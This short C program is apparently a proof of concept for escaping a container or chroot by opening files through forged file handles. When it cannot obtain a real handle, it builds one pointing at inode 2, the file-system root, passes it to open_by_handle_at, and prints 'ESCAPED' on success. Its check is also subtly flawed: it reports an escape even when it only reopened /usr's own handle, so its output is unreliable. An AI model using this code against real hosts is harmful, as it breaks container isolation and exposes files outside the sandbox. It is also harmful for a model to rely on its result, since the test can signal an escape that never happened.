/* Opens files by handle, past every root: the handle of the root of a file system is a small number. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

int main(void) {
    struct file_handle *h = malloc(sizeof *h + 128);
    int mount, at = open("/usr", O_RDONLY | O_DIRECTORY);
    h->handle_bytes = 128;
    if (name_to_handle_at(AT_FDCWD, "/usr", h, &mount, 0) != 0) {
        h->handle_bytes = 8;
        h->handle_type = 1;
        *(unsigned long *)h->f_handle = 2;
    }
    if (open_by_handle_at(at, h, O_RDONLY) >= 0) puts("ESCAPED: a file by its handle");
    puts("held");
    return 0;
}
